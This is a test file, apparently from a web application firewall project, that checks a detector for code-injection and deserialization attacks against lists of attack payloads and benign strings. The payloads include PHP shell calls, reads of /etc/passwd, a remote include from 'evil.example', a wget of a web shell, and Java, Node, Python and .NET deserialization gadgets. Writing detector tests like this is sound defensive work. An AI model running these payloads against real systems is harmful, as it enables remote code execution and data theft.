import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { detectCodeInjection } from '../src/threats/detectors/code.js';
import type { DetectContext, Hit, Paranoia } from '../src/threats/types.js';
import { assertCheap } from './threats-timing.js';

function ctx(paranoia: Paranoia = 1, name = 'q', location: DetectContext['location'] = 'query'): DetectContext {
  return { paranoia, location, name, isKey: false };
}

function run(v: string, paranoia: Paranoia = 1, c?: DetectContext): Hit | undefined {
  return detectCodeInjection(v, v.toLowerCase(), c ?? ctx(paranoia));
}

function blocks(v: string, c?: DetectContext): boolean {
  const h = run(v, 1, c);
  return h !== undefined && h.paranoia === 1 && h.severity >= 5;
}

/** [payload, expected category] */
const ATTACKS: ReadonlyArray<readonly [string, 'code-injection' | 'deserialization']> = [
  // PHP tags and calls
  ['<?php system($_GET["c"]); ?>', 'code-injection'],
  ['<?= `id` ?>', 'code-injection'],
  ['<? exec(\'wget http://x/r57.txt\')', 'code-injection'],
  ['<?xml :system(\'ls\');', 'code-injection'],
  ['[php]system("id");[/php]', 'code-injection'],
  ['system(\'id\')', 'code-injection'],
  [';system(\'cat /etc/passwd\')', 'code-injection'],
  ['@exec("whoami")', 'code-injection'],
  ['exec //comment\r\n (blah)', 'code-injection'],
  ['passthru/**/("id")', 'code-injection'],
  ['eval(base64_decode("ZWNobyAxOw=="))', 'code-injection'],
  ['eval(gzinflate(str_rot13(base64_decode("")', 'code-injection'],
  ['assert($_POST[\'x\'])', 'code-injection'],
  ['preg_replace(\'/.*/e\', $_GET[\'c\'], \'\')', 'code-injection'],
  ['file_get_contents(\'/etc/passwd\')', 'code-injection'],
  ['include(\'http://evil.example/shell.txt\')', 'code-injection'],
  ['shell_exec (whoami)', 'code-injection'],
  ['phpinfo()', 'code-injection'],
  ['$_SERVER[\'HTTP_HOST\'];', 'code-injection'],
  ['php://input', 'code-injection'],
  ['php://filter/convert.base64-encode/resource=index.php', 'code-injection'],
  ['phar://uploads/avatar.jpg/test.txt', 'code-injection'],
  ['expect://id', 'code-injection'],
  ['zip://archive.zip#shell.php', 'code-injection'],
  ['memory_limit = 512M', 'code-injection'],
  ['auto_prepend_file=php://input', 'code-injection'],
  // Variable functions and callable strings
  ['$a(\'id\')', 'code-injection'],
  ['$$b(2)', 'code-injection'],
  ['${\'a\'}(11)', 'code-injection'],
  ['$__[@o](4)', 'code-injection'],
  ['$GLOBALS[\'x\'](14)', 'code-injection'],
  ['$_aB_4c /*x*/ [5][\'d\'] (17)', 'code-injection'],
  ['$foo->$funcname()', 'code-injection'],
  ['$a=\'sys\'.\'tem\';$a(\'id\')', 'code-injection'],
  ['(system)(\'uname\')', 'code-injection'],
  ['("sys"."tem")("id")', 'code-injection'],
  ['(sy.(st).em)(\'uname\');', 'code-injection'],
  ['"\\x73y\\x73tem"(ls);', 'code-injection'],
  ['[system][0](ls);', 'code-injection'],
  ['define(\'x\', \'sys\' . \'tem\');(x)/* c */(\'uname\');', 'code-injection'],
  ['$y = \'sys\'.\'tem\';($y)(\'uname\');', 'code-injection'],
  ['${\'ff\'}', 'code-injection'],
  // PHP serialization
  ['O:8:"stdClass":1:{s:1:"a";i:2;}', 'deserialization'],
  ['O:+8:"stdClass":0:{}', 'deserialization'],
  ['a:2:{i:0;s:1:"x";i:1;O:7:"Foo\\Bar":0:{}}', 'deserialization'],
  ['C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}', 'deserialization'],
  // Java
  ['rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7eHA=', 'deserialization'],
  ['aced00057372', 'deserialization'],
  ['\u00ac\u00ed\u0000\u0005sr', 'deserialization'],
  ['org.apache.commons.collections.functors.InvokerTransformer', 'deserialization'],
  ['java.lang.Runtime', 'code-injection'],
  ['java.lang.ProcessBuilder', 'code-injection'],
  ['T(java.lang.Runtime).getRuntime().exec("id")', 'code-injection'],
  ['Runtime.getRuntime().exec("id")', 'code-injection'],
  ['Class.forName("java.lang.Runtime")', 'code-injection'],
  ['new ProcessBuilder("id").start()', 'code-injection'],
  ['%{(#_memberAccess[\'allowStaticMethodAccess\']=true)}', 'code-injection'],
  ['class.module.classLoader.resources.context.parent.pipeline.first.pattern', 'code-injection'],
  ['{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x/a"}', 'deserialization'],
  ['!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]', 'deserialization'],
  ['cnVudGltZQ', 'deserialization'],
  ['KztAAU', 'deserialization'],
  // Node.js
  ['require(\'child_process\').exec(\'id\')', 'code-injection'],
  ['require("child_process").execSync("whoami")', 'code-injection'],
  ['process.mainModule.require(\'child_process\')', 'code-injection'],
  ['this.constructor.constructor(\'return process\')()', 'code-injection'],
  ['new Function(\'return process\')()', 'code-injection'],
  ['{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}', 'deserialization'],
  ['XyQkTkRfRlVOQyQkXwo=', 'deserialization'],
  ['eval(String.fromCharCode(97,108,101,114,116))', 'code-injection'],
  ['process["env"]', 'code-injection'],
  // Python, Ruby, Perl, .NET
  ['__import__(\'os\').system(\'id\')', 'code-injection'],
  ['os.system(\'id\')', 'code-injection'],
  ['subprocess.Popen(["id"])', 'code-injection'],
  ['cos\nsystem\n(S\'id\'\ntR.', 'deserialization'],
  ['!!python/object/apply:os.system ["id"]', 'deserialization'],
  ['Process.spawn("id")', 'code-injection'],
  ['@{[system \'whoami\']}', 'code-injection'],
  ['{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}', 'deserialization'],
  ['AAEAAAD/////AQAAAAAAAAAMAgAAAE1TeXN0ZW0', 'deserialization'],
];

const BENIGN: readonly string[] = [
  // a PHP function's name before a parenthetical word in a package description
  'unpack (almost) everything with one command', 'Install X2Go Thin Client chroot (metapackage)',
  'The system is down, please try again later.', 'Please evaluate the proposal', 'exec summary attached',
  'Java is a programming language', 'I love java and coffee', 'the files (yep)', 'exec (', 'executor()', 'cheval($foo)',
  'ecosystem()', 'systems()', 'system something()', 'the system is down()', 'Operating system (Windows 10)',
  'preview', 'exploration', 'RootAndLeafOpenCamera.jpg', 'SprintForTheCause', 'PaintValdosta', 'ceiling height(9ft)',
  'Moreover, phpinfo can potentially leak sensitive configuration details.', 'A loaded ghost gun (unserialized) was recovered.',
  'Please list your available date(s) and time(s).', 'See link(2) and popen(3) for details.', 'Call `eval()` sparingly.',
  '[Assert](assert.html) | (2) Stable', '* [npm exec](/commands/npm-exec)', '**[PHP](./php/flatted.php)**',
  '{"name":"John Doe","age":"30","email":"johndoe@example.com"}', '{"array":["php","test"]}', 'richard.php@my-email.com',
  '<?xml version="1.0" encoding="UTF-8"?><order><id>12345</id></order>', '<?xml-stylesheet type="text/xsl" href="s.xsl"?>',
  '<?xpacket begin="?" id="W5M0MpCehiHzreSzNTczkc9d"?>', 'result = (x < 5) ? yes : no', 'http://example.com/page?id=123',
  'user@[192.168.1.1]', 'java.lang.NullPointerException at com.example.Foo.bar(Foo.java:42)', 'I use java.util.List daily',
  'a:b:c', 'O:8', 'Order O:8 is ready', 'price: $5 (approx)', '$(document).ready(fn)', 'jQuery $.ajax({url: "/x"})',
  'process.exit()', 'The `child_process.exec()` method runs a shell', 'process.argv', 'SELECT CHR(65), ORD(\'a\') FROM dual',
  'console.log is handy', 'dGhpcyBpcyBhIHRlc3Q=', 'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abc',
  'c/ caridad s/n', 'campello, el', '(555) 123-4567', '$19.99', 'O\'Brien', 'select a plan', '1 - 2', 'C:\\Users\\bob',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
  'execFile() (Rich Trott)', 'setTimeout(fn, 100)', 'copy()', 'Use the `php://` wrappers with care', 'engine=true',
];

describe('detectCodeInjection', () => {
  for (const [v, cat] of ATTACKS) {
    it(`flags ${JSON.stringify(v.slice(0, 60))}`, () => {
      const h = run(v);
      assert.ok(blocks(v), `expected a PL1 critical hit, got ${JSON.stringify(h)}`);
      assert.equal(h?.category, cat);
      assert.ok((h?.evidence.length ?? 0) <= 40);
    });
  }

  for (const v of BENIGN) {
    it(`does not block ${JSON.stringify(v.slice(0, 60))}`, () => {
      assert.ok(!blocks(v), `unexpected hit ${JSON.stringify(run(v))}`);
    });
  }

  it('flags script uploads through file-name inputs only', () => {
    const hdr = ctx(1, 'x-filename', 'header');
    for (const v of ['shell.php', 'a.php.', 'photo. php', 'test.php7.gif', 'b.jsp', 'a.jspx..', 'x.phtml']) {
      assert.ok(blocks(v, hdr), `${v} as a file name`);
    }
    for (const v of ['safe.phpinfo', 'photo.jpg', 'report.pdf']) assert.ok(!blocks(v, hdr), `${v} is fine`);
    assert.ok(!blocks('shell.php'), 'a plain parameter named q holding shell.php is not an upload');
  });

  it('keeps weaker shapes for higher paranoia levels', () => {
    for (const v of ['${a}', 'a:1:{i:0;s:1:"a";}', 'console.log is handy']) {
      assert.ok(!blocks(v), `${v} must not block at PL1`);
    }
    assert.ok(run('a:1:{i:0;s:1:"a";}', 4) !== undefined, 'a serialized array is reported at PL2+');
    // the whole value is a call or an open tag glued to a word: code, not text about code
    for (const v of ['chr(123)', 'test<?', 'console.info(1)']) assert.ok(blocks(v), `${v} as the whole value`);
  });

  it('never throws on odd input', () => {
    for (const v of ['', '(', '$', '${', 'O:', 'a:1:{', '<?', '\\x', '\uFFFF', 'İ(', '\u0000(\u0000', 'rO0']) {
      assert.doesNotThrow(() => detectCodeInjection(v, v.toLowerCase(), ctx(4)));
    }
  });

  it('runs in linear time on pathological inputs', () => {
    const N = 100_000;
    const rep = (s: string): string => s.repeat(Math.ceil(N / s.length)).slice(0, N);
    const inputs = ['(', ')(', '$(((', "'''", '"', '${', '$a(', '$a[', 'system(', 'O:8:"', 'a:1:{', '<?php ', '<?', '[php]',
      'java.', 'a.', '_$$ND_FUNC', '/*', '#', '\\x', 'rO0AB', 'AAAA', 'Zm9v', '@{', "'a'.", '(x)(', '][0](', 'define(',
      '$x=\'a\';', '\n', ' ', 'The quick brown fox jumps over the lazy dog. '];
    const detect = (v: string): unknown => detectCodeInjection(v, v.toLowerCase(), ctx(4));
    for (const s of inputs) assertCheap(`${JSON.stringify(s)} x ${N}`, detect, rep(s), { ceilingMs: 50 });
  });
});
